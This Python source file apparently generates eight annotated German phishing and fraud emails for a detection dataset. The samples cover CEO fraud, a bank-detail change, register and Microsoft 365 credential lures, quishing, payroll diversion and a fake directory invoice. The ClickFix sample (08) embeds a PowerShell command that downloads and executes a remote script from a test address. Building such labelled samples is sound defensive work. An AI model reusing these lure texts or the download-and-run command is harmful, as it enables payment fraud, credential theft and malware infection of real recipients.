"""Attack messages 01-08 (German)."""
from common import *
from people import *

F = "attack"


def build(ref):
    # ------------------------------------------------------------ 01 CEO fraud, look-alike domain
    text = dedent("""
        Hallo Sabine,

        ich bin gerade noch in der Abstimmung mit den Anwälten zu einem Thema, über das ich Dich
        bisher bewusst nicht informiert habe: Wir stehen kurz vor dem Signing für die Übernahme
        eines Reinigungs- und Sicherheitsdienstleisters in den Niederlanden (intern "Projekt
        Rheinblick"). Das Ganze ist kartellrechtlich noch nicht freigegeben, deshalb bitte absolute
        Vertraulichkeit - auch gegenüber Monika und der Buchhaltung, bis wir es offiziell machen.

        Für den Abschluss muss heute noch eine Sicherheitsleistung auf ein Treuhandkonto gehen.
        Dr. Hartmann von der begleitenden Kanzlei meldet sich gleich bei Dir mit den Zahlungsdetails
        und dem Treuhandvertrag. Bitte stimm Dich direkt mit ihm ab.

        Ich sitze bis zum Abend in den Verhandlungen und kann nicht telefonieren. Bitte nur per Mail
        antworten, mein Postfach wird wegen des Projekts gerade separat geführt.

        Kannst Du mir kurz bestätigen, dass Du heute bis 17 Uhr da bist und ob eine taggleiche
        Auslandsüberweisung über die Sparkasse noch klappt?

        Danke Dir!
        Jürgen

        Jürgen Köhler
        Geschäftsführer
    """) + SIG_DE
    mail(F, 1, "de", "ceo-fraud-lookalike-domain",
         via=V(sd.vps, helo="mail.exarnple.com", rdns="vmi2384716.contaboserver.net", ip="62.171.158.203",
               client="outlook16", zone="DE"),
         frm=("Jürgen Köhler", "juergen.koehler@exarnple.com"), to=[CFO.a],
         reply_to=("Jürgen Köhler", "j.koehler.office@proton.me"),
         subject="Vertraulich: Projekt Rheinblick - kurze Abstimmung heute", t=L(10, 15, 14, 42),
         hcs="iso-8859-15", body=alt(text, html_outlook(text), "iso-8859-15", "quoted-printable"),
         what="CEO impersonation to the CFO announcing a confidential acquisition and a 'lawyer' who will send escrow payment details.",
         why="Look-alike domain exarnple.com (rn for m) on a Contabo VPS instead of the internal relay; Reply-To diverts to a Proton address; secrecy, same-day foreign transfer, 'cannot be phoned' - classic BEC set-up for a fake-lawyer payment.",
         pair="B03")

    # ------------------------------------------------------------ 02 supplier bank-detail change
    lief = LIEF
    text = dedent("""
        Sehr geehrte Frau Schröder,

        im Zuge der Neuorganisation unseres Zahlungsverkehrs haben wir zum 1. November 2026 unsere
        Hausbank gewechselt. Bitte hinterlegen Sie ab sofort ausschließlich die folgende
        Bankverbindung in Ihren Kreditorenstammdaten:

        Kontoinhaber: Lieferant GmbH
        Bank: Revolut Bank UAB
        IBAN: %s
        BIC: REVOLT21

        Die noch offenen Rechnungen RE-2026-10418 und RE-2026-10433 über zusammen 18.426,37 EUR
        bitten wir bereits auf das neue Konto zu überweisen. Zahlungen auf unsere bisherige
        Verbindung bei der Commerzbank können ab sofort nicht mehr zugeordnet werden und werden
        automatisch zurückgebucht, was zu Verzögerungen bei Ihren Lieferungen führen kann.

        Die offizielle Mitteilung mit Firmenstempel finden Sie im Anhang. Da unsere Telefonanlage
        wegen der Umstellung derzeit nur eingeschränkt erreichbar ist, senden Sie Rückfragen bitte
        per E-Mail an mich.

        Für eine kurze Bestätigung der Änderung wären wir Ihnen dankbar.

        Mit freundlichen Grüßen

        i. A. Petra Lang
        Debitorenbuchhaltung

        Lieferant GmbH
        Reinigungschemie · Maschinen · Verbrauchsmaterial
        Industriestraße 21 · 42551 Velbert
        Tel. +49 2051 80766-0 · www.lieferant-gmbh.de
        USt-IdNr. %s
    """) % (ids.fmt_iban(lief["mule"]), lief["ustid"])
    pdfl = [("Lieferant GmbH", 16, "B"), "Industriestraße 21 · 42551 Velbert", "",
            "Example Group GmbH", "Kreditorenbuchhaltung", "Butzweilerhofallee 4", "50829 Köln", "",
            "Velbert, 16.11.2026", "",
            ("Mitteilung über die Änderung unserer Bankverbindung", 12, "B"), "",
            "Sehr geehrte Damen und Herren,",
            "wir teilen Ihnen mit, dass sich unsere Bankverbindung mit Wirkung zum 01.11.2026 geändert hat.",
            "Bitte leisten Sie alle Zahlungen ab sofort ausschließlich auf folgendes Konto:", "",
            "Kontoinhaber: Lieferant GmbH", "Kreditinstitut: Revolut Bank UAB",
            "IBAN: " + ids.fmt_iban(lief["mule"]), "BIC: REVOLT21", "",
            "Die bisherige Bankverbindung wird aufgelöst. Zahlungen dorthin werden zurückgebucht.", "",
            "Mit freundlichen Grüßen", "Lieferant GmbH", "", "Stefan Maier          Petra Lang",
            "Geschäftsführer      Buchhaltung", "",
            ("Amtsgericht Wuppertal HRB 24718 · USt-IdNr. " + lief["ustid"], 8)]
    mail(F, 2, "de", "supplier-bank-change-lookalike",
         via=V(sd.vps, helo="mail.lieferant-gmbh.com", rdns="static.212.54.198.88.clients.your-server.de",
               ip="88.198.54.212", client="outlook16"),
         frm=("Petra Lang", "p.lang@lieferant-gmbh.com"), to=[AP.a],
         cc=[("Stefan Maier", "s.maier@lieferant-gmbh.com")],
         subject="Änderung unserer Bankverbindung – bitte Stammdaten aktualisieren", t=L(11, 16, 10, 7),
         hcs="windows-1252",
         body=mixed(alt(text, html_outlook(text), "windows-1252", "quoted-printable"),
                    pdf_att(pdfl, "Lieferant_GmbH_Mitteilung_Bankverbindung.pdf", title="Mitteilung Bankverbindung",
                            author="Petra Lang", created="20261116094211+01'00'", name_style="2047")),
         what="Bank-detail change for the real supplier Lieferant GmbH, asking to pay two open invoices to a new account.",
         why="Sender and Cc are on lieferant-gmbh.com (real supplier: lieferant-gmbh.de), sent from a Hetzner VPS; new IBAN is a Lithuanian EMI account (LT, Revolut) for a German GmbH; threat of returned payments, phone 'not reachable' so no call-back. Contradicts the genuine change in B02 (Deutsche Bank, DE IBAN, call-back offered).",
         pair="B02, B01")

    # ------------------------------------------------------------ 03 Bewacherregister credential phishing (Brevo)
    link = "https://bewacherregister-service.de/anmeldung/unternehmen?vid=BWR-K-2026-041873"
    paras = [
        "Sehr geehrte Damen und Herren,",
        "im Zuge der Anbindung des Bewacherregisters an das Unternehmenskonto (ELSTER-basierte "
        "Authentifizierung) müssen alle Gewerbetreibenden nach § 34a GewO ihren Zugang bis zum "
        "<b>30.11.2026</b> erneut bestätigen.",
        "Für Ihr Unternehmen <b>Example Group GmbH</b> (Register-ID BWR-K-2026-041873) liegen derzeit "
        "<b>7 Meldungen von Wachpersonen</b> vor, deren Zuverlässigkeitsüberprüfung bis zur Bestätigung des "
        "Zugangs ausgesetzt ist. Neue Beschäftigte können bis dahin nicht gemeldet werden.",
        "Bitte melden Sie sich mit den Zugangsdaten Ihres Unternehmenskontos an und bestätigen Sie die "
        "hinterlegten Ansprechpartner:",
    ]
    html = brand_html("Bestätigung Ihres Zugangs zum Bewacherregister erforderlich", "#004b76", paras,
                      "Zugang jetzt bestätigen", link, lang="de", logo_text="Bewacherregister",
                      footer="Bundesamt für Wirtschaft und Ausfuhrkontrolle (BAFA) · Referat Bewacherregister<br>"
                             "Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.")
    text = dedent("""
        Sehr geehrte Damen und Herren,

        im Zuge der Anbindung des Bewacherregisters an das Unternehmenskonto (ELSTER-basierte
        Authentifizierung) müssen alle Gewerbetreibenden nach § 34a GewO ihren Zugang bis zum
        30.11.2026 erneut bestätigen.

        Für Ihr Unternehmen Example Group GmbH (Register-ID BWR-K-2026-041873) liegen derzeit
        7 Meldungen von Wachpersonen vor, deren Zuverlässigkeitsüberprüfung bis zur Bestätigung
        des Zugangs ausgesetzt ist. Neue Beschäftigte können bis dahin nicht gemeldet werden.

        Zugang jetzt bestätigen:
        %s

        Bundesamt für Wirtschaft und Ausfuhrkontrolle (BAFA) - Referat Bewacherregister
        Diese E-Mail wurde automatisch erstellt.
    """) % link
    mail(F, 3, "de", "bewacherregister-credential-phish",
         via=V(sd.brevo), frm=("Bewacherregister | BAFA", "no-reply@bewacherregister-service.de"), to=[OPS.a],
         subject="Bewacherregister: Bestätigung Ihres Unternehmenszugangs bis 30.11.2026 erforderlich",
         t=L(11, 10, 8, 31), body=alt(text, html, "utf-8", "quoted-printable"),
         what="Notice in the name of the German guard register (Bewacherregister) demanding re-confirmation of the company login.",
         why="Trade-specific credential phishing: the register never mails such notices through Brevo from bewacherregister-service.de; link leads to a look-alike login asking for ELSTER/Unternehmenskonto credentials; deadline and 'suspended background checks' pressure.")

    # ------------------------------------------------------------ 04 SVG attachment from a compromised tax office
    svgurl = "https://docs-sign.krueger-stb-portal.com/envelope/?id=7f3a91c2&m=" + b64(AP.email)
    svg = docs.svg_lure("DocuSign", ["Krüger & Partner mbB hat Ihnen ein Dokument gesendet:",
                                     "Honorarvereinbarung_2027_Example_Group.pdf", "",
                                     "Bitte prüfen und unterzeichnen Sie das Dokument."],
                        "DOKUMENT ÖFFNEN", svgurl, sub="Umschlag-ID 7F3A91C2-5D0E-4B9A-A1F3-62C0B7E95D14")
    text = dedent("""
        Guten Tag,

        anbei erhalten Sie die Honorarvereinbarung 2027 zur Durchsicht und elektronischen
        Unterzeichnung. Die Vorschau öffnet sich direkt im Browser.

        Bei Rückfragen stehen wir Ihnen gern zur Verfügung.

        Mit freundlichen Grüßen

        Anja Krüger
        Steuerberaterin

        Krüger & Partner mbB Steuerberatungsgesellschaft
        Aachener Straße 312 · 50933 Köln
        Tel. 0221 9454 120
    """)
    mail(F, 4, "de", "svg-attachment-compromised-taxoffice",
         via=V(sd.hosted, server="mail.krueger-stb.de", server_ip="85.13.147.62", client_ip="185.220.101.47",
               client_rdns="tor-exit-47.for-privacy.net", client="roundcube"),
         frm=("Anja Krüger | Krüger & Partner", "a.krueger@krueger-stb.de"), to=[("", "undisclosed-recipients:;")],
         rcpt=AP.email, subject="Honorarvereinbarung 2027 - Bitte um Unterzeichnung", t=L(10, 21, 6, 12),
         hcs="iso-8859-1",
         body=mixed(Text(text, "iso-8859-1", "8bit"),
                    Attachment(svg.encode(), "image/svg+xml", "Honorarvereinbarung_2027_Vorschau.svg")),
         what="'Fee agreement 2027' for signature from a small Cologne tax office, with an SVG 'preview'.",
         why="Mailbox of a real small business used by an intruder (Roundcube login from a Tor exit, 06:12, undisclosed recipients, no prior relationship); the SVG is a fake DocuSign page whose only content is a link to a credential-harvesting site carrying the recipient's address (base64).",
         pair="B06")

    # ------------------------------------------------------------ 05 quishing, MFA re-registration (SendGrid)
    qpay = "https://examplegroup-m365.pages.dev/?u=" + b64(ACCDE.email)
    qdata, _ = qr_png(qpay)
    paras = [
        "Hallo Frank Lüdtke,",
        "für Ihr Konto <b>%s</b> läuft die Registrierung der Multi-Faktor-Authentifizierung am "
        "<b>02.11.2026</b> ab. Gemäß der Sicherheitsrichtlinie Ihrer Organisation muss die Methode "
        "(Microsoft Authenticator) erneut bestätigt werden." % ACCDE.email,
        "Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den "
        "Anweisungen. Der Vorgang dauert weniger als zwei Minuten.",
    ]
    html = brand_html("Aktion erforderlich: MFA-Registrierung erneuern", "#0f6cbd", paras, lang="de",
                      logo_text="Microsoft 365", img_cid="qr-mfa-1", img_alt="QR-Code",
                      footer="Nach Ablauf der Frist wird der Zugriff auf Outlook, Teams und SharePoint "
                             "vorübergehend eingeschränkt.<br>Microsoft Corporation, One Microsoft Way, "
                             "Redmond, WA 98052")
    text = dedent("""
        Hallo Frank Lüdtke,

        für Ihr Konto %s läuft die Registrierung der Multi-Faktor-Authentifizierung am
        02.11.2026 ab. Bitte öffnen Sie diese Nachricht in der HTML-Ansicht und scannen Sie den
        QR-Code mit Ihrem Smartphone, um die Methode zu bestätigen.

        Microsoft 365
    """) % ACCDE.email
    mail(F, 5, "de", "quishing-mfa-reregistration",
         via=V(sd.sendgrid, bounce_domain="em4821.kontoschutz-365.de"),
         frm=("Microsoft 365 Kontoschutz", "no-reply@kontoschutz-365.de"), to=[ACCDE.a],
         subject="Aktion erforderlich: MFA für %s läuft am 02.11.2026 ab" % ACCDE.email,
         t=L(10, 28, 7, 55),
         body=Multi("alternative", [Text(text, "utf-8", "base64"),
                                    related(Text(html, "utf-8", "base64", "html"),
                                            png_att(qdata, "qr.png", cid="qr-mfa-1", inline=True))], None),
         what="'Microsoft 365' notice that MFA registration expires; the only call to action is a QR code.",
         why="Quishing: no clickable link, the QR code (PNG) decodes to a Cloudflare Pages site with the victim's address base64-encoded; sender is a look-alike domain via SendGrid, not Microsoft; deadline pressure.",
         pair="B07", qr=[("qr.png", qpay)])

    # ------------------------------------------------------------ 06 payroll diversion
    text = dedent("""
        Hallo Frau Wagner,

        ich habe mein Gehaltskonto gewechselt. Könnten Sie bitte für die Abrechnung November
        die neue Bankverbindung hinterlegen?

        Kontoinhaber: Tobias Renner
        IBAN: %s
        Bank: N26

        Ich bin diese Woche fast nur auf den Objekten unterwegs und komme nicht ins
        Mitarbeiterportal, daher der kurze Weg per Mail. Das alte Konto wird Ende des Monats
        aufgelöst.

        Geben Sie mir bitte kurz Bescheid, ob das noch für diesen Monat klappt.

        Vielen Dank und viele Grüße
        Tobias Renner
    """) % ids.fmt_iban(ids.iban_de("10011001", "2957316640"))
    mail(F, 6, "de", "payroll-diversion-freemail",
         via=V(sd.gmx, client_ip="154.47.22.189"),
         frm=("Tobias Renner", "tobias.renner.koeln@gmx.de"), to=[PAY.a],
         subject="Neue Bankverbindung für Gehalt", t=L(11, 18, 19, 48),
         body=Text(text, "utf-8", "quoted-printable"),
         what="Employee (operations manager) asks payroll to change his salary account before the November run.",
         why="Payroll diversion: private GMX address never used by the employee, new N26 account, bypasses the HR portal with an excuse, time pressure before payroll; sent from a VPN/hosting IP in the evening.",
         pair="B05")

    # ------------------------------------------------------------ 07 fake register "invoice"
    mule = ids.iban_de("10090000", "7284016003")
    text = dedent("""
        Sehr geehrte Damen und Herren,

        zur Aktualisierung Ihres Eintrags im Zentralen Gewerbe- und Firmenverzeichnis übersenden
        wir Ihnen anbei das Eintragungsformular mit den bei uns gespeicherten Unternehmensdaten
        (Vorgangs-Nr. ZGF-K-2026-118734).

        Bitte prüfen Sie die Angaben. Mit Überweisung des ausgewiesenen Betrags bis zum
        04.12.2026 wird die Eintragung für die Dauer von drei Jahren veröffentlicht. Eine
        Unterschrift ist nicht erforderlich.

        Mit freundlichen Grüßen
        ZGF Datenservice - Eintragungsstelle
    """)
    pdfl = [("ZGF Zentrales Gewerbe- und Firmenverzeichnis", 14, "B"),
            "Eintragungsstelle · Postfach 10 14 22 · 10554 Berlin", "",
            ("EINTRAGUNGSOFFERTE / Vorgangs-Nr. ZGF-K-2026-118734", 12, "B"),
            "Registergericht: Köln       HRB 48217", "Firma: Example Group GmbH",
            "Anschrift: Butzweilerhofallee 4, 50829 Köln", "Branche: Gebäudereinigung / Sicherheitsdienste",
            "", "Eintragung im Online-Verzeichnis, Laufzeit 36 Monate", "Jahresbeitrag netto          1.083,53 EUR",
            "zzgl. 19 % USt.                  205,87 EUR", ("Zahlbetrag (1. Jahr)           1.289,40 EUR", 11, "B"), "",
            "Empfänger: ZGF Datenservice", "IBAN: " + ids.fmt_iban(mule), "BIC: BEVODEBBXXX",
            "Verwendungszweck: ZGF-K-2026-118734", "Zahlbar bis: 04.12.2026", "",
            ("Mit Zahlung wird dieses Angebot angenommen. Es handelt sich um ein privates Verzeichnis ohne", 7),
            ("Verbindung zu amtlichen Registern. Kündigung frühestens zum Ende der Mindestlaufzeit (36 Monate).", 7)]
    mail(F, 7, "de", "fake-register-invoice",
         via=V(sd.mailgun, mg_domain="mg.zgf-datenservice.de"),
         frm=("ZGF Eintragungsstelle", "eintragung@zgf-datenservice.de"), to=[ACCDE.a],
         subject="Eintragung Example Group GmbH - Vorgangs-Nr. ZGF-K-2026-118734", t=L(11, 19, 9, 3),
         hcs="windows-1252",
         body=mixed(Text(text, "windows-1252", "base64"),
                    pdf_att(pdfl, "ZGF-K-2026-118734_Eintragung.pdf", title="Eintragungsofferte",
                            author="ZGF", producer="TCPDF 6.7.5 (http://www.tcpdf.org)",
                            created="20261119080211+01'00'")),
         what="'Registration' form styled as an invoice from a company register, 1,289.40 EUR.",
         why="Fake register/directory invoice: looks like an official Handelsregister charge, the small print reveals a 3-year private listing contract accepted by payment; unknown sender on Mailgun; no business relationship.")

    # ------------------------------------------------------------ 08 ClickFix HTML attachment (compromised M365)
    cmd = 'powershell -w h -nop -c "iex(iwr http://198.51.100.47:8080/v.txt -UseBasicParsing)"'
    att = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><title>Vergabeunterlagen '
           'KVB-2026-118</title>\n<style>body{font-family:Segoe UI,Arial;background:#eef1f5;margin:0}'
           '.b{max-width:620px;margin:60px auto;background:#fff;border:1px solid #ccd;padding:34px}'
           'code{display:block;background:#f4f4f4;border:1px solid #ddd;padding:10px;font-size:13px;'
           'word-break:break-all}ol li{margin:8px 0}</style></head>\n<body><div class="b">\n'
           '<h2>Dokumentvorschau nicht verfügbar</h2>\n<p>Die Vergabeunterlagen (Leistungsverzeichnis, '
           'Preisblatt, Objektliste) sind durch den Dokumentenschutz der Vergabeplattform gesichert. '
           'Bitte bestätigen Sie einmalig, dass Sie kein automatisiertes Programm sind:</p>\n<ol>\n'
           '<li>Drücken Sie gleichzeitig die <b>Windows-Taste</b> und <b>R</b>.</li>\n'
           '<li>Kopieren Sie den folgenden Prüfcode und fügen Sie ihn in das Fenster ein:</li>\n'
           '</ol>\n<code>%s</code>\n<ol start="3"><li>Drücken Sie <b>Enter</b>. Die Unterlagen werden '
           'anschließend automatisch geöffnet.</li></ol>\n<p style="color:#888;font-size:12px">'
           'Ray ID: 8f2c41d7be19a3e4 · Verifizierung durch Cloudflare</p>\n</div></body></html>\n' % esc(cmd))
    text = dedent("""
        Sehr geehrte Damen und Herren,

        der Klinikverbund Bergisches Land beabsichtigt, die Unterhalts- und Glasreinigung sowie
        den Empfangs- und Pfortendienst für die Standorte Solingen und Remscheid ab 01.04.2027
        neu zu vergeben (Vergabe-Nr. KVB-2026-118).

        Aufgrund Ihrer Referenzen laden wir Sie zur Abgabe eines Angebots ein. Die
        Vergabeunterlagen finden Sie im Anhang. Angebotsfrist ist der 09.12.2026, 12:00 Uhr.

        Mit freundlichen Grüßen

        Sandra Kessler
        Zentraler Einkauf / Vergabestelle
        Klinikverbund Bergisches Land gGmbH
    """)
    mail(F, 8, "de", "clickfix-tender-html",
         via=V(sd.m365, srv="FR3P281MB1734", region="DEUP281", srv2="BE1P281MB2917",
               eop=("DEU01-FR2-obe.outbound.protection.outlook.com",
                    "mail-fr2deu01on2129.outbound.protection.outlook.com", "40.107.135.129"),
               has_attach=True),
         frm=("Kessler, Sandra", "s.kessler@klinikverbund-bergland.de"), to=[SALES.a],
         subject="Einladung zur Angebotsabgabe - Unterhaltsreinigung und Pfortendienst KVB-2026-118",
         t=L(11, 24, 16, 20), hcs="iso-8859-1",
         body=mixed(alt(text, html_outlook(text), "iso-8859-1", "quoted-printable"),
                    Attachment(att.encode("utf-8"), "text/html", "Vergabeunterlagen_KVB-2026-118.html",
                               charset="utf-8", name_style="2047")),
         what="Invitation to tender for hospital cleaning and reception services, documents as an HTML file.",
         why="ClickFix: the HTML 'document protection' page tells the user to press Win+R and paste a PowerShell command that downloads and runs a script (target defused to a TEST-NET address); sent from a hospital's real M365 mailbox that was taken over; tenders are never delivered as local HTML.",
         pair=None)
